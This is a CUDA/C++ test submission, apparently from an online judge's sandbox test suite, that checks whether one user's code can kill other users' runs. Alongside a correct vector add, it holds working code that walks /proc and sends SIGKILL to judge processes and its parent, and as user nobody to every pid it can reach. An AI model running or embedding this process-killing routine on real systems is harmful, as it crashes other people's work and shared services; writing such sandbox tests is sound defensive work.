// expect: accepted
// expect-output-lacks: KILLED
// Attacker's intent: kill other people's runs. Against the old judge a submission found another user's worker in
// /proc and SIGKILLed it: the other user's run crashed. On its first call this walks /proc and sends SIGKILL to
// every process that is not itself whose name starts with "judge" (every judge, worker and solver of anyone's run,
// and the test's stand-in for another user's worker), and last to its own parent; when it runs as nobody (uid 65534,
// which owns nothing), to every process it can list, or to every pid up to pid_max when /proc lists none. It prints
// `KILLED <pid> <name>` for each signal delivered, then adds correctly. (Only judge processes are aimed at
// otherwise, so that a broken sandbox fails the test, not the desktop of whoever runs it.)
// Harmless when the submission can signal no process but its own: nothing printed, the test's stand-in (a process
// named judge-worker, started beside the judge) is alive afterwards, and the judge, whose worker is the parent
// here, reports normally. It is correct, so `accepted`.
#include <cuda_runtime.h>

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

std::string comm_of(int pid) {
  std::string path = "/proc/" + std::to_string(pid) + "/comm";
  int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return {};
  char buf[64] = {0};
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  std::string c(buf, n > 0 ? static_cast<size_t>(n) : 0);
  while (!c.empty() && c.back() == '\n') c.pop_back();
  return c;
}

int delivered = 0, refused = 0;

void kill_one(int pid, const std::string& name) {
  if (kill(pid, SIGKILL) == 0) {
    ++delivered;
    std::printf("KILLED %d %s\n", pid, name.c_str());
    std::fflush(stdout);
  } else {
    ++refused;
  }
}

void kill_the_others() {
  const int self = getpid(), parent = getppid();
  const bool nobody = geteuid() == 65534;
  std::vector<int> pids;
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d))
      if (e->d_name[0] >= '1' && e->d_name[0] <= '9') pids.push_back(std::atoi(e->d_name));
    closedir(d);
  }
  int seen = 0;
  for (int pid : pids) {
    if (pid == self || pid == parent || pid == 1) continue;
    ++seen;
    std::string name = comm_of(pid);
    if (name.rfind("judge", 0) == 0 || nobody) kill_one(pid, name.empty() ? "?" : name);
  }
  // Our own threads' ids are ours too: a signal to one of them would end this process.
  std::vector<int> own;
  if (DIR* d = opendir("/proc/self/task")) {
    while (dirent* e = readdir(d))
      if (e->d_name[0] >= '1' && e->d_name[0] <= '9') own.push_back(std::atoi(e->d_name));
    closedir(d);
  }
  if (nobody && seen == 0 && !own.empty()) {
    // /proc hides the others: every pid there can be, blind.
    int pid_max = 1 << 22;
    if (FILE* f = std::fopen("/proc/sys/kernel/pid_max", "r")) {
      if (std::fscanf(f, "%d", &pid_max) != 1 || pid_max <= 0 || pid_max > (1 << 22)) pid_max = 1 << 22;
      std::fclose(f);
    }
    for (int pid = 2; pid < pid_max; ++pid)
      if (pid != self && pid != parent && std::find(own.begin(), own.end(), pid) == own.end() &&
          kill(pid, SIGKILL) == 0) {
        ++delivered;
        std::printf("KILLED %d (blind)\n", pid);
        std::fflush(stdout);
      }
    seen = pid_max - 2;
  }
  kill_one(parent, comm_of(parent));
  std::fprintf(stderr, "kill: %d other pids tried, %d signals delivered, %d refused (%s)\n", seen, delivered,
               refused, nobody ? "as nobody: every process" : "judge processes and the parent");
  std::fflush(stderr);
}

__global__ void add(const float* A, const float* B, float* C, int N) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < N) C[i] = A[i] + B[i];
}

}  // namespace

extern "C" void solve(const float* A, const float* B, float* C, int N) {
  static bool done = false;
  if (!done) {
    done = true;
    kill_the_others();
  }
  add<<<(N + 255) / 256, 256>>>(A, B, C, N);
  cudaDeviceSynchronize();
}
